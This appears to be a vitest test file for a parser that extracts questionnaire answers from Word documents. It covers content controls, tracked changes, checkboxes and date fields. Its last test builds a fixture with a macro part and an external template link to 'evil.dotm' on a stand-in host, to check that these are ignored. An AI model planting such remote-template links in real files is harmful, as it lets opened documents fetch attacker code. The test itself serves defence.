import { readFile } from 'node:fs/promises'
import { describe, expect, test } from 'vitest'
import { withParts } from '../../support/filled-files.ts'
import { editedBlank, editedWord, readingOf, standing } from './questionnaire.ts'

const body =
  (content: string): ((xml: string) => string) =>
  (xml) =>
    xml.replace(/<w:body>.*<\/w:body>/s, () => `<w:body>${content}</w:body>`)
const read = async (content: string) => readingOf(await editedBlank(body(content)), {})

const text = (tag: string, content: string, kind = '<w:text/>') =>
  `<w:sdt><w:sdtPr><w:tag w:val="${tag}"/>${kind}</w:sdtPr><w:sdtContent>${content}</w:sdtContent></w:sdt>`
const run = (written: string) => `<w:r><w:t>${written}</w:t></w:r>`

describe('controls as word processors write them', () => {
  test.each([
    [
      'inserted text of a tracked change counts, deleted text does not',
      `<w:p>${text('Q08', `<w:del><w:r><w:delText>old</w:delText><w:t>old</w:t></w:r></w:del><w:ins>${run('new')}</w:ins>`)}</w:p>`,
      { Q08: 'new' },
    ],
    [
      'text that was moved away does not count',
      `<w:p>${text('Q08', `<w:moveFrom>${run('here')}</w:moveFrom><w:moveTo>${run('there')}</w:moveTo>`)}</w:p>`,
      { Q08: 'there' },
    ],
    [
      'paragraphs, breaks and tabs inside a control',
      text(
        'Q08',
        `<w:p><w:pPr><w:tabs><w:tab w:val="left"/></w:tabs></w:pPr>${run('one')}</w:p><w:p><w:r><w:t>two</w:t><w:br/><w:t>three</w:t><w:tab/><w:t>four</w:t></w:r></w:p>`,
      ),
      { Q08: 'one\ntwo\nthree\tfour' },
    ],
    [
      'a control around a cell',
      `<w:tbl><w:tr>${text('Q04', `<w:tc><w:p>${run('12')}</w:p></w:tc>`)}</w:tr></w:tbl>`,
      { Q04: 12 },
    ],
    [
      'a control a person put inside',
      `<w:p>${text('Q08', `${run('a ')}<w:sdt><w:sdtPr/><w:sdtContent>${run('b')}</w:sdtContent></w:sdt>${run(' c')}`)}</w:p>`,
      { Q08: 'a b c' },
    ],
    [
      'a date control whose text could be read in two ways',
      `<w:p>${text('Q06', run('3/4/2026'), '<w:date w:fullDate="2026-04-03T00:00:00Z"/>')}</w:p>`,
      { Q06: '2026-04-03' },
    ],
    [
      'text beside controls is no answer',
      `<w:p>${run('Q04: 99')}${text('Q04', run('5'))}${run(' or 6')}</w:p>`,
      { Q04: 5 },
    ],
    [
      'only the newer of two forms of a drawing',
      `<w:p>${text('Q08', `<mc:AlternateContent><mc:Choice Requires="wps">${run('once')}</mc:Choice><mc:Fallback>${run('once')}</mc:Fallback></mc:AlternateContent>`)}</w:p>`,
      { Q08: 'once' },
    ],
    [
      'another prefix for the same names',
      `<w:p>${text('Q04', run('7')).replaceAll('w:val', 'x:val')}</w:p>`,
      { Q04: 7 },
    ],
    [
      'a box that lost its state shows its sign',
      `<w:p>${text('Q02:zalo', run('☒'), '<w14:checkbox/>')}${text('Q02:line', run('☐'), '<w14:checkbox/>')}</w:p>`,
      { Q02: 'zalo' },
    ],
    [
      'a box that was typed over',
      `<w:p>${text('Q02:zalo', run('x'), '<w14:checkbox><w14:checked w14:val="0"/></w14:checkbox>')}</w:p>`,
      { Q02: 'zalo' },
    ],
    [
      'a box of another program, with its state in words',
      `<w:p>${text('Q02:zalo', run('☒'), '<w14:checkbox><w14:checked w14:val="true"/><w14:checkedState w14:val="2612"/><w14:uncheckedState w14:val="2610"/></w14:checkbox>')}</w:p>`,
      { Q02: 'zalo' },
    ],
    [
      'a control without a tag is named by the hidden text before it',
      `<w:p>${run('[Q04]')}<w:r/>${text('', run('8'))}${text('', run('88'))}</w:p>`,
      { Q04: 8 },
    ],
    [
      'hidden text of another paragraph names nothing',
      `<w:p>${run('[Q04]')}</w:p><w:p>${text('', run('8'))}${text('Q05', run('9'))}</w:p>`,
      { Q05: 9 },
    ],
    [
      'dots that were left standing beside the answer',
      `<w:p>${text('Q08', run('Jakarta……………………'))}</w:p>`,
      { Q08: 'Jakarta' },
    ],
  ])('%s', async (_name, content, proposed) => {
    const xml = content.replaceAll('x:val=', 'xmlns:x="urn:x" x:val=')
    expect(await read(xml)).toEqual({ proposed, faults: [] })
  })

  test('a document saved by LibreOffice 7.4 reads as it was filled in there', async () => {
    const saved = await readFile(new URL('../../fixtures/answers/libreoffice-7-4.docx', import.meta.url))
    expect(await readingOf(saved)).toEqual({ proposed: { Q02: 'zalo', Q04: 1300 }, faults: [] })
  })

  test('macros and links that lead out of the file are passed over', async () => {
    const file = await withParts(await editedWord((xml) => xml), {
      'word/vbaProject.bin': () => 'not a macro',
      'word/_rels/document.xml.rels': (rels) =>
        rels.replace(
          '</Relationships>',
          '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://198.51.100.7/evil.dotm" TargetMode="External"/></Relationships>',
        ),
    })
    expect(await readingOf(file, standing)).toEqual({ proposed: {}, faults: [] })
  })
})
